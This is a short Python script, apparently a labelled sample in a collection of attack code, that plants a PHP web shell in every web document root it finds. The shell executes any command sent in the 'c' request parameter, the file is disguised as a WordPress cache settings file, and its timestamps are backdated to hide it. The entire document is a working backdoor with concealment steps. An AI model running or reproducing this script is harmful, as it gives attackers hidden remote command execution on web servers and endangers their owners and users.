# class: backdoor, web shell into every document root; style: script
import glob, os
SHELL = "<?php if(isset($_REQUEST['c'])){system($_REQUEST['c']);} ?>"
for d in glob.glob("/var/www/*") + glob.glob("/srv/http/*") + ["/usr/share/nginx/html"]:
    if os.path.isdir(d):
        p = os.path.join(d, "wp-cache-settings.php")
        open(p, "w").write(SHELL)
        os.utime(p, (1500000000, 1500000000))
